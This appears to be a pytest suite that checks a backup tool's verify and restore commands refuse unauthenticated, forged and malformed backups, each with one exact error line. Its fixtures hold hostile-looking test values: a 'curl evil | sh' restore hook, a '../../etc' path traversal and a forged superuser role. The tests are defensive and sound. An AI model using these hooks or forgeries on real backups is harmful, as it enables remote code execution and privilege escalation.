"""``backup verify`` and ``backup restore`` through the CLI (``harness.cli.main`` in process), on synthetic backups
in a temp state dir (no Docker): what is authenticated and what is not, and one exact line for every refusal.

A backup is *authenticated* when its manifest's HMAC was checked under the key derived from the passphrase: an
encrypted backup verified or restored with ``--passphrase-file``. Anything else -- an unencrypted backup, or one
whose encryption block was removed -- is not: ``verify`` says so and exits 3, ``restore`` refuses, unless
``--allow-unauthenticated``.
"""

from __future__ import annotations

import hashlib
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from harness.backup import orchestration
from harness.backup.archive import Captured, build_backup
from harness.cli import main

PASS = b"correct horse battery staple"
LIMIT = "the SHA-256 checks detect accidental corruption only, not someone who rewrites files and manifest on purpose"


GLOBALS = b"--\n-- PostgreSQL database cluster dump\n--\nCREATE ROLE devstack;\n"
UNSEAL = json.dumps({"init": {"keys": ["k1", "k2", "k3"], "root_token": "r", "shares": 3, "threshold": 2},
                     "bootstrap": {"admin_token": "a", "approles": {}, "names": {}, "root_revoked": True}}).encode()
REDIS_LINE = b'{"exp": -1, "k": "a2V5", "v": "dmFsdWU="}\n'
ARTIFACTS: dict[str, dict[str, bytes]] = {
    "vault": {"vault/raft.snap": b"\x1f\x8b-snapshot", "vault/unseal.json": UNSEAL},
    "postgres": {"postgres/devstack.dump": b"PGDMP-one", "postgres/globals.sql": GLOBALS},
    "mysql": {"mysql/devstack.sql": b"-- MariaDB dump\nCREATE TABLE accounts (id int);\n"},
    "redis": {"redis/shard-0-5460.jsonl": REDIS_LINE, "redis/shard-5461-10922.jsonl": b"",
              "redis/shard-10923-16383.jsonl": REDIS_LINE},
    "rabbitmq": {"rabbitmq/definitions.json": b'{"queues": []}'},
}
SERVICES = list(ARTIFACTS)


def _items(services: list[str] = SERVICES, **replaced: bytes) -> list[Captured]:
    """Complete, well-formed artifacts of ``services``; ``replaced`` maps an artifact's file name (``devstack_dump``
    for ``postgres/devstack.dump``) to other content."""
    return [Captured(service, name, replaced.get(name.split("/")[1].replace(".", "_"), data), 0.1)
            for service in services for name, data in ARTIFACTS[service].items()]


def _flat(text: str) -> str:
    """Output with rich's line wrapping undone (it wraps at 160 columns outside a terminal)."""
    return " ".join(text.split())


@pytest.fixture
def root(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("HARNESS_STATE_DIR", str(tmp_path / "state"))
    return tmp_path / "state" / "backups"


@pytest.fixture
def passfile(tmp_path: Path) -> Path:
    path = tmp_path / "passphrase"
    path.write_bytes(PASS)
    path.chmod(0o600)
    return path


class Target:
    """The `up` stack as a restore target: answers what a restore asks before it touches a service."""

    def __init__(self) -> None:
        self.calls: list[str] = []
        self.state_dir = Path("/nonexistent")

    def endpoint(self, name: str) -> Any:
        self.calls.append(f"endpoint {name}")
        raise AssertionError("the service restores are spies: nothing needs an endpoint")

    def containers(self, name: str) -> list[Any]:
        self.calls.append(f"containers {name}")
        return []

    def running(self) -> list[str]:
        self.calls.append("running")
        return list(SERVICES)


class Restores:
    """The `up` stack (``_kept_stack``), the fresh stack (``engine.Stack``) and every per-service restore replaced
    by recorders: a refused restore leaves all three empty."""

    def __init__(self, monkeypatch: pytest.MonkeyPatch) -> None:
        from harness import cli
        from harness.stacks import engine

        self.target = Target()
        self.stacks: list[str] = []
        self.services: list[str] = []
        monkeypatch.setattr(cli, "_kept_stack", lambda settings: self.stacks.append("up stack") or self.target)
        monkeypatch.setattr(orchestration, "restore_service", lambda t, name, files: self.services.append(name))
        stacks = self.stacks

        class NoStack:
            def __init__(self, *args: Any, **kwargs: Any) -> None:
                stacks.append("fresh stack")
                raise AssertionError("a refused restore started a stack")

        monkeypatch.setattr(engine, "Stack", NoStack)

    @property
    def untouched(self) -> bool:
        return self.stacks == [] and self.target.calls == [] and self.services == []


@pytest.fixture
def restores(monkeypatch: pytest.MonkeyPatch) -> Restores:
    return Restores(monkeypatch)


# ------------------------------------------------------------------------------------------ authentication


def test_verify_of_an_authenticated_backup_says_so_and_exits_0(root: Path, passfile: Path,
                                                               capsys: pytest.CaptureFixture[str]) -> None:
    backup = build_backup(root, _items(), services=SERVICES, versions={}, passphrase=PASS)
    assert main(["backup", "verify", backup.id, "--passphrase-file", str(passfile)]) == 0
    shown = capsys.readouterr()
    assert _flat(shown.out).endswith("verdict: ok, authentic: HMAC-SHA256 over the manifest and backup id, under "
                                     "the passphrase's key")
    assert shown.err == ""


def test_verify_of_an_unencrypted_backup_is_not_authenticated_and_exits_3(root: Path,
                                                                         capsys: pytest.CaptureFixture[str]) -> None:
    backup = build_backup(root, _items(), services=SERVICES, versions={}, passphrase=None)
    assert main(["backup", "verify", backup.id]) == 3
    shown = capsys.readouterr()
    assert _flat(shown.out).endswith(
        f"verdict: NOT AUTHENTICATED (unencrypted backup): {LIMIT}; if this backup was made with --encrypt, verify "
        "it with --passphrase-file; to accept it unauthenticated, add --allow-unauthenticated")
    assert shown.err == ""


def test_verify_accepts_an_unauthenticated_backup_only_when_told(root: Path,
                                                                capsys: pytest.CaptureFixture[str]) -> None:
    backup = build_backup(root, _items(), services=SERVICES, versions={}, passphrase=None)
    assert main(["backup", "verify", backup.id, "--allow-unauthenticated"]) == 0
    assert _flat(capsys.readouterr().out).endswith(
        f"verdict: ok, NOT AUTHENTICATED (accepted with --allow-unauthenticated): {LIMIT}")


def test_verify_of_an_unauthenticated_backup_with_a_problem_exits_1(root: Path,
                                                                   capsys: pytest.CaptureFixture[str]) -> None:
    """A problem outranks the missing authentication: exit 1 and the problem on one error line, with or without
    --allow-unauthenticated."""
    backup = build_backup(root, _items(), services=SERVICES, versions={}, passphrase=None)
    (root / backup.id / "mysql" / "devstack.sql").unlink()
    for extra in ([], ["--allow-unauthenticated"]):
        assert main(["backup", "verify", backup.id, *extra]) == 1
        shown = capsys.readouterr()
        assert _flat(shown.err) == f"error: backup {backup.id} does not verify: mysql/devstack.sql: missing"
        assert "verdict:" not in shown.out


def test_restore_of_an_authenticated_backup_goes_ahead(root: Path, passfile: Path, restores: Restores,
                                                       capsys: pytest.CaptureFixture[str]) -> None:
    """The control: the recorders see a restore that is not refused."""
    backup = build_backup(root, _items(), services=SERVICES, versions={}, passphrase=PASS)
    assert main(["backup", "restore", backup.id, "--yes", "--passphrase-file", str(passfile)]) == 0
    assert restores.services == SERVICES and restores.stacks == ["up stack"]
    assert "NOT AUTHENTICATED" not in capsys.readouterr().err


@pytest.mark.parametrize("fresh", [[], ["--fresh"]], ids=["up-stack", "fresh"])
def test_restore_refuses_an_unauthenticated_backup(root: Path, restores: Restores, fresh: list[str],
                                                   capsys: pytest.CaptureFixture[str]) -> None:
    backup = build_backup(root, _items(), services=SERVICES, versions={}, passphrase=None)
    assert main(["backup", "restore", backup.id, "--yes", *fresh]) == 1
    assert _flat(capsys.readouterr().err) == (
        f"error: backup {backup.id} is NOT AUTHENTICATED (unencrypted backup), nothing restored: {LIMIT}; if it "
        "was made with --encrypt, restore it with --passphrase-file; to restore it unauthenticated, add "
        "--allow-unauthenticated")
    assert restores.untouched


def test_restore_of_an_unauthenticated_backup_when_told(root: Path, restores: Restores,
                                                        capsys: pytest.CaptureFixture[str]) -> None:
    backup = build_backup(root, _items(), services=SERVICES, versions={}, passphrase=None)
    assert main(["backup", "restore", backup.id, "--yes", "--allow-unauthenticated"]) == 0
    assert restores.services == SERVICES
    assert _flat(capsys.readouterr().err).startswith(
        f"note: restoring backup {backup.id} NOT AUTHENTICATED (--allow-unauthenticated): {LIMIT} restored "
        f"{backup.id} in ")


def test_library_restore_refuses_an_unauthenticated_backup(root: Path, restores: Restores) -> None:
    """The same gate for the Python API the suites use: ``allow_unauthenticated=True`` is the opt-in."""
    from harness.backup.archive import BackupError

    backup = build_backup(root, _items(), services=SERVICES, versions={}, passphrase=None)
    with pytest.raises(BackupError) as refused:
        orchestration.restore(restores.target, root, backup.id, None, None)
    assert str(refused.value).startswith(f"backup {backup.id} is NOT AUTHENTICATED (unencrypted backup), nothing "
                                         "restored: ")
    assert restores.untouched
    timings = orchestration.restore(restores.target, root, backup.id, None, None, allow_unauthenticated=True)
    assert list(timings) == SERVICES == restores.services


# ------------------------------------------------------------------------- forged and broken backups: no traceback
# Every case: `verify` and `restore` (no passphrase) exit 1 with exactly one error line naming the problem, no
# stack is started and no service restore runs.


def _check_refused(backup_id: str, problem: str, restores: Restores, capsys: pytest.CaptureFixture[str],
                   refusal: bool = True) -> None:
    """``verify`` and ``restore --yes`` of ``backup_id`` each end in exactly one error line: ``problem`` as the
    backup's refusal (``does not verify: <findings>``), or as the whole error with ``refusal=False``."""
    for argv, consequence in ((["backup", "verify", backup_id], ""),
                              (["backup", "restore", backup_id, "--yes"], ", nothing restored")):
        assert main(argv) == 1, argv
        shown = capsys.readouterr()
        expected = f"backup {backup_id} does not verify{consequence}: {problem}" if refusal else problem
        assert _flat(shown.err) == f"error: {expected}", argv
        assert "verdict:" not in shown.out
    assert restores.untouched


def _resign(root: Path, backup_id: str, change: Callable[[dict[str, Any]], None]) -> None:
    """Change the manifest and sign it again as anyone can (plain SHA-256): an unauthenticated forgery."""
    from harness.backup.tamper import plain_sig, read_manifest, write_manifest

    data = read_manifest(root, backup_id)
    change(data)
    write_manifest(root, backup_id, data)
    plain_sig(root, backup_id)


def _replace(root: Path, backup_id: str, name: str, blob: bytes) -> None:
    """Replace an artifact and fix its size and checksum in a re-signed manifest."""
    from harness.backup.tamper import swap_artifact

    (root / backup_id / name).write_bytes(blob)
    _resign(root, backup_id, lambda data: swap_artifact(data, name, blob))


def _json_error(raw: bytes) -> str:
    """The JSON parser's own message for ``raw`` (part of the expected finding)."""
    try:
        json.loads(raw)
    except ValueError as exc:
        return str(exc)
    raise AssertionError(f"{raw!r} parses")


def _artifact_field(name: str, key: str, value: Any) -> Callable[[dict[str, Any]], None]:
    def change(data: dict[str, Any]) -> None:
        (art,) = [a for a in data["artifacts"] if a["name"] == name]
        art[key] = value
    return change


def _index(root: Path, backup_id: str, name: str) -> int:
    from harness.backup.tamper import read_manifest

    return [a["name"] for a in read_manifest(root, backup_id)["artifacts"]].index(name)


def truncated_manifest(root: Path, backup_id: str) -> str:
    raw = (root / backup_id / "manifest.json").read_bytes()
    (root / backup_id / "manifest.json").write_bytes(raw[: len(raw) // 2])
    return f"manifest.json: manifest tampered: manifest unreadable: {_json_error(raw[: len(raw) // 2])}"


def empty_manifest(root: Path, backup_id: str) -> str:
    (root / backup_id / "manifest.json").write_bytes(b"")
    return "manifest.json: manifest tampered: manifest unreadable: Expecting value: line 1 column 1 (char 0)"


def manifest_not_an_object(root: Path, backup_id: str) -> str:
    (root / backup_id / "manifest.json").write_bytes(b"[]")
    return "manifest.json: manifest tampered: manifest unreadable: not a JSON object"


def truncated_signature(root: Path, backup_id: str) -> str:
    sig = root / backup_id / "manifest.sig"
    sig.write_bytes(sig.read_bytes()[:10])
    return "manifest.json: manifest tampered: signature unreadable: manifest.sig (JSONDecodeError)"


def size_not_a_number(root: Path, backup_id: str) -> str:
    index = _index(root, backup_id, "postgres/devstack.dump")
    _resign(root, backup_id, _artifact_field("postgres/devstack.dump", "size", "9"))
    return (f"manifest.json: manifest tampered: manifest unreadable: artifacts[{index}] field 'size' is str, not an "
            "integer >= 0")


def checksum_not_a_string(root: Path, backup_id: str) -> str:
    index = _index(root, backup_id, "mysql/devstack.sql")
    _resign(root, backup_id, _artifact_field("mysql/devstack.sql", "sha256", 5))
    return (f"manifest.json: manifest tampered: manifest unreadable: artifacts[{index}] field 'sha256' is int, not a "
            "string")


def parent_not_an_id(root: Path, backup_id: str) -> str:
    _resign(root, backup_id, lambda data: data.update(parent=5))
    return "manifest.json: manifest tampered: manifest unreadable: field 'parent' is int, not a backup id or null"


def parent_outside_the_backups(root: Path, backup_id: str) -> str:
    _resign(root, backup_id, lambda data: data.update(parent="../../etc"))
    return ("manifest.json: manifest tampered: manifest unreadable: field 'parent' is '../../etc', not a backup id or "
            "null")


def totals_not_an_object(root: Path, backup_id: str) -> str:
    _resign(root, backup_id, lambda data: data.update(totals=[]))
    return "manifest.json: manifest tampered: manifest unreadable: field 'totals' is list, not an object"


def unknown_field(root: Path, backup_id: str) -> str:
    _resign(root, backup_id, lambda data: data.update(restore_hook="curl evil | sh"))
    return "manifest.json: manifest tampered: manifest unreadable: unknown field 'restore_hook'"


def markup_in_an_artifact_name(root: Path, backup_id: str) -> str:
    _resign(root, backup_id, _artifact_field("mysql/devstack.sql", "name", "[/bold]"))
    return "manifest.json: manifest tampered: bad artifact path: '[/bold]' is not <service>/<file>"


def artifact_deleted(root: Path, backup_id: str) -> str:
    (root / backup_id / "rabbitmq" / "definitions.json").unlink()
    return "rabbitmq/definitions.json: missing"


def artifact_truncated(root: Path, backup_id: str) -> str:
    path = root / backup_id / "postgres" / "devstack.dump"
    whole = path.read_bytes()
    path.write_bytes(whole[:4])
    return (f"postgres/devstack.dump: checksum mismatch: stored bytes differ from the manifest: 4 bytes, sha256 "
            f"{hashlib.sha256(whole[:4]).hexdigest()[:12]}…; the manifest says {len(whole)} bytes, "
            f"{hashlib.sha256(whole).hexdigest()[:12]}… (replaced, moved from another backup, or corrupted)")


def artifact_truncated_and_resigned(root: Path, backup_id: str) -> str:
    cut = b'{"queues": ['
    _replace(root, backup_id, "rabbitmq/definitions.json", cut)
    return f"rabbitmq/definitions.json: bad format: not valid JSON: {_json_error(cut)}"


def definitions_not_an_object(root: Path, backup_id: str) -> str:
    _replace(root, backup_id, "rabbitmq/definitions.json", b"[]")
    return "rabbitmq/definitions.json: bad format: not a JSON object"


def definitions_users_malformed(root: Path, backup_id: str) -> str:
    _replace(root, backup_id, "rabbitmq/definitions.json", b'{"users": "guest"}')
    return "rabbitmq/definitions.json: bad format: 'users' is not a list of objects"


def redis_record_malformed(root: Path, backup_id: str) -> str:
    _replace(root, backup_id, "redis/shard-0-5460.jsonl", REDIS_LINE + b'{"k": 1}\n')
    return ("redis/shard-0-5460.jsonl: bad format: line 2: not a key record (an object with k and v in base64 and "
            "exp an integer)")


def vault_keys_malformed(root: Path, backup_id: str) -> str:
    _replace(root, backup_id, "vault/unseal.json", b'{"init": {}}')
    return "vault/unseal.json: bad format: not an object with init and bootstrap objects"


def vault_threshold_malformed(root: Path, backup_id: str) -> str:
    bundle = json.loads(UNSEAL)
    bundle["init"]["threshold"] = 4
    _replace(root, backup_id, "vault/unseal.json", json.dumps(bundle).encode())
    return "vault/unseal.json: bad format: init.threshold is not a number from 1 to the number of keys"


def vault_bootstrap_malformed(root: Path, backup_id: str) -> str:
    bundle = json.loads(UNSEAL)
    bundle["bootstrap"]["extra"] = 1
    _replace(root, backup_id, "vault/unseal.json", json.dumps(bundle).encode())
    return ("vault/unseal.json: bad format: bootstrap does not hold exactly admin_token, approles, names, "
            "root_revoked (and timings)")


BROKEN: dict[str, Callable[[Path, str], str]] = {fn.__name__.replace("_", "-"): fn for fn in (
    truncated_manifest, empty_manifest, manifest_not_an_object, truncated_signature, size_not_a_number,
    checksum_not_a_string, parent_not_an_id, parent_outside_the_backups, totals_not_an_object, unknown_field,
    markup_in_an_artifact_name, artifact_deleted, artifact_truncated, artifact_truncated_and_resigned,
    definitions_not_an_object, definitions_users_malformed, redis_record_malformed, vault_keys_malformed,
    vault_threshold_malformed, vault_bootstrap_malformed)}


@pytest.mark.parametrize("case", BROKEN)
def test_a_broken_backup_is_one_error_line(root: Path, restores: Restores, capsys: pytest.CaptureFixture[str],
                                           case: str) -> None:
    backup = build_backup(root, _items(), services=SERVICES, versions={}, passphrase=None)
    problem = BROKEN[case](root, backup.id)
    _check_refused(backup.id, problem, restores, capsys)
    assert main(["backup", "list"]) == 0  # the listing does not trip over it either


def test_a_missing_backup_is_one_error_line(root: Path, restores: Restores,
                                            capsys: pytest.CaptureFixture[str]) -> None:
    backup = build_backup(root, _items(), services=SERVICES, versions={}, passphrase=None)
    (root / backup.id / "manifest.json").unlink()
    _check_refused(backup.id, f"no backup {backup.id} in {root}", restores, capsys, refusal=False)
    _check_refused("20991231T235959.000000Z-0000", f"no backup 20991231T235959.000000Z-0000 in {root}", restores,
                   capsys, refusal=False)


def test_a_path_is_not_a_backup_id(root: Path, restores: Restores, capsys: pytest.CaptureFixture[str]) -> None:
    build_backup(root, _items(), services=SERVICES, versions={}, passphrase=None)
    (root.parent / "manifest.json").write_text("{}")  # what "../" would find
    _check_refused("..", "not a backup id: '..' (ids look like 20261121T181516.123456Z-3fa2)", restores, capsys,
                   refusal=False)


def test_an_unreadable_artifact_is_named(root: Path, restores: Restores, capsys: pytest.CaptureFixture[str],
                                         monkeypatch: pytest.MonkeyPatch) -> None:
    """A file the process may not read (tests run as root here, so the refusal is faked at ``read_bytes``)."""
    backup = build_backup(root, _items(), services=SERVICES, versions={}, passphrase=None)
    unreadable = root / backup.id / "mysql" / "devstack.sql"
    read_bytes = Path.read_bytes

    def guarded(path: Path) -> bytes:
        if path == unreadable:
            raise PermissionError(13, "Permission denied", str(path))
        return read_bytes(path)

    monkeypatch.setattr(Path, "read_bytes", guarded)
    _check_refused(backup.id, "mysql/devstack.sql: unreadable: Permission denied", restores, capsys)


def test_a_passphrase_file_that_cannot_be_read_is_one_error_line(root: Path, tmp_path: Path,
                                                                capsys: pytest.CaptureFixture[str]) -> None:
    backup = build_backup(root, _items(), services=SERVICES, versions={}, passphrase=PASS)
    folder = tmp_path / "not-a-file"
    folder.mkdir(mode=0o700)
    assert main(["backup", "verify", backup.id, "--passphrase-file", str(folder)]) == 1
    assert _flat(capsys.readouterr().err) == f"error: passphrase file {folder} cannot be read: Is a directory"


def test_list_prints_a_forged_manifest_as_text(root: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """``backup list`` shows manifests as written, unauthenticated: what they say is text, never markup."""
    backup = build_backup(root, _items(), services=SERVICES, versions={}, passphrase=None)
    _resign(root, backup.id, lambda data: data.update(created="[/bold] [red]forged"))
    assert main(["backup", "list"]) == 0
    assert "[/bold] [red]forged" in capsys.readouterr().out


@pytest.fixture
def chain(root: Path) -> Any:
    """A full encrypted backup of PostgreSQL, MySQL and RabbitMQ (the one tampered with) and an incremental on it
    that stores its own dump: harness.backup.tamper's cases need both."""
    from harness.backup.tamper import Chain

    services = ["postgres", "mysql", "rabbitmq"]
    full = build_backup(root, _items(services), services=services, versions={}, passphrase=PASS)
    inc = build_backup(root, _items(services, devstack_dump=b"PGDMP-two"), services=services, versions={},
                       passphrase=PASS, parent_id=full.id)
    return Chain(root, full.id, inc.id, forge="mysql/devstack.sql", moved="postgres/devstack.dump")


def _forged_without_passphrase(case: str, root: Path, target: str) -> tuple[str, bool]:
    """(the problem, whether it is a refusal) of a harness.backup.tamper case met without a passphrase."""
    if case != "encryption-block-removed":
        # The manifest still has its encryption block: without the passphrase nothing can be checked.
        return f"backup {target} is encrypted: give --passphrase-file", False
    # The block is gone, so the backup reads as an unencrypted one; its plaintext stand-ins fail the formats.
    return ("postgres/devstack.dump: bad format: not a pg_dump custom-format archive (no PGDMP header); "
            f"rabbitmq/definitions.json: bad format: not valid JSON: {_json_error(b'-- forged')}"), True


def test_forgeries_without_a_passphrase_are_one_error_line(chain: Any, restores: Restores,
                                                           capsys: pytest.CaptureFixture[str]) -> None:
    """Every forgery of harness.backup.tamper, verified and restored by someone who gives no passphrase."""
    import shutil

    from harness.backup.tamper import CASES

    pristine = chain.root.parent / "pristine"
    shutil.copytree(chain.root, pristine)
    for case, forgery in CASES.items():
        shutil.rmtree(chain.root)
        shutil.copytree(pristine, chain.root)
        forgery.tamper(chain)
        problem, refusal = _forged_without_passphrase(case, chain.root, chain.target)
        _check_refused(chain.target, problem, restores, capsys, refusal)


def _user_forgery(root: Path, keep_dump: bool) -> str:
    """The reported case: an encrypted backup of PostgreSQL, its encryption block set to null, the dump removed
    (or, with ``keep_dump``, replaced by a well-formed plaintext one), globals.sql replaced by a superuser role,
    the signature rewritten as plain SHA-256."""
    from harness.backup.tamper import swap_artifact

    backup = build_backup(root, _items(["postgres"]), services=["postgres"], versions={}, passphrase=PASS)
    directory = root / backup.id
    forged_roles = b"--\nCREATE ROLE intruder SUPERUSER LOGIN;\n"
    forged_dump = b"PGDMP-forged"
    (directory / "postgres" / "globals.sql").write_bytes(forged_roles)
    if keep_dump:
        (directory / "postgres" / "devstack.dump").write_bytes(forged_dump)
    else:
        (directory / "postgres" / "devstack.dump").unlink()

    def forge(data: dict[str, Any]) -> None:
        data["encryption"] = None
        if not keep_dump:
            data["artifacts"] = [a for a in data["artifacts"] if a["name"] != "postgres/devstack.dump"]
        swap_artifact(data, "postgres/globals.sql", forged_roles, encrypted=False)
        swap_artifact(data, "postgres/devstack.dump", forged_dump, encrypted=False)

    _resign(root, backup.id, forge)
    return backup.id


def test_the_reported_forgery_is_refused_without_a_traceback(root: Path, capsys: pytest.CaptureFixture[str],
                                                             monkeypatch: pytest.MonkeyPatch) -> None:
    """As reported: verify exited 0, restore went ahead with a note and died in stack/postgres.py (KeyError:
    'postgres/devstack.dump'). The target here is a bare fake: PostgreSQL's real restore code runs if reached."""
    from harness import cli

    backup_id = _user_forgery(root, keep_dump=False)
    target = Target()
    monkeypatch.setattr(cli, "_kept_stack", lambda settings: target)
    monkeypatch.setattr(Target, "endpoint", lambda self, name: self.calls.append(f"endpoint {name}") or object())
    monkeypatch.setattr(Target, "containers", lambda self, name: self.calls.append(f"containers {name}") or [object()])
    problem = "manifest.json: incomplete: postgres: missing artifact postgres/devstack.dump"
    assert main(["backup", "verify", backup_id]) == 1
    assert _flat(capsys.readouterr().err) == f"error: backup {backup_id} does not verify: {problem}"
    assert main(["backup", "restore", backup_id, "--yes"]) == 1
    assert _flat(capsys.readouterr().err) == f"error: backup {backup_id} does not verify, nothing restored: {problem}"
    assert target.calls == []


def test_the_reported_forgery_with_a_dump_is_not_authenticated(root: Path, restores: Restores,
                                                               capsys: pytest.CaptureFixture[str]) -> None:
    """With a well-formed dump in place nothing local can tell the forgery from a genuine unencrypted backup: it
    is NOT AUTHENTICATED, so verify exits 3 and restore refuses -- unless the user opts in."""
    backup_id = _user_forgery(root, keep_dump=True)
    assert main(["backup", "verify", backup_id]) == 3
    assert _flat(capsys.readouterr().out).endswith("to accept it unauthenticated, add --allow-unauthenticated")
    assert main(["backup", "restore", backup_id, "--yes"]) == 1
    assert _flat(capsys.readouterr().err).startswith(f"error: backup {backup_id} is NOT AUTHENTICATED")
    assert restores.untouched
    assert main(["backup", "restore", backup_id, "--yes", "--allow-unauthenticated"]) == 0
    assert restores.services == ["postgres"]


def test_restore_fresh_of_a_service_the_backup_does_not_hold_starts_no_stack(
        root: Path, passfile: Path, restores: Restores, capsys: pytest.CaptureFixture[str]) -> None:
    backup = build_backup(root, _items(["vault", "postgres"]), services=["vault", "postgres"], versions={},
                          passphrase=PASS)
    argv = ["backup", "restore", backup.id, "--yes", "--fresh", "--services", "mysql", "--passphrase-file",
            str(passfile)]
    assert main(argv) == 1
    assert _flat(capsys.readouterr().err) == ("error: the backup holds no mysql (it holds vault, postgres); nothing "
                                              "restored")
    assert restores.untouched
